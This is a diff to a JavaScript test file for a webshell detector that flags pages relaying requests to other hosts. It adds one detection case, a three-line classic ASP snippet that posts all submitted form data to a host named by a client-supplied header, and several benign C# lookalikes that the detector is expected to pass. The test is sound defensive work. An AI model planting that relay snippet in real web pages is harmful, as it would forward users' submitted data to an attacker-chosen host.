@@ -1,5 +1,6 @@
 import detector from '../../../src/detectors/webshell/socket-relay.js';
 import { testDetector } from '../../helpers/detector-tester.js';
+import { classicPage, csharpPage } from './inline-page.js';
 import { webSample } from './web-sample.js';
 
 const sample = webSample(detector.id);
@@ -24,8 +25,30 @@ testDetector(detector, {
       input: sample('hit/forward.ashx.split'),
       detections: [{ message: 'forward', at: { label: 'sink', line: 6 }, severity: 'high' }],
     },
+    {
+      name: 'requests to the host that a header names, unseen',
+      input: classicPage(
+        'Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")',
+        'x.open "POST", "https://" & Request.ServerVariables("HTTP_X_FWD"), False',
+        'x.send Request.Form',
+      ),
+      detections: [{ message: 'forward', at: { label: 'sink', line: 3 }, severity: 'high' }],
+    },
   ],
   misses: [
+    {
+      name: 'a request to the server itself, by the name that it was asked for',
+      input: csharpPage('System.Net.WebRequest.Create("http://" + Request.Headers["Host"] + "/warm").GetResponse();'),
+      looksAlike: true,
+    },
+    {
+      name: 'a header that goes to a fixed service',
+      input: csharpPage(
+        'new System.Net.WebClient().UploadString("https://api.invalid/log", Request.Headers["X-Trace"]);',
+        'System.Net.WebRequest.Create("https://api.invalid/" + Request.Headers["X-Tenant"]).GetResponse();',
+      ),
+      looksAlike: true,
+    },
     { name: 'mail by a fixed server', input: sample('miss/mail.aspx'), looksAlike: true },
     { name: 'WebSocket that answers', input: sample('miss/echo.ashx'), looksAlike: true },
     { name: 'search of another host', input: sample('miss/search-proxy.ashx'), looksAlike: true },
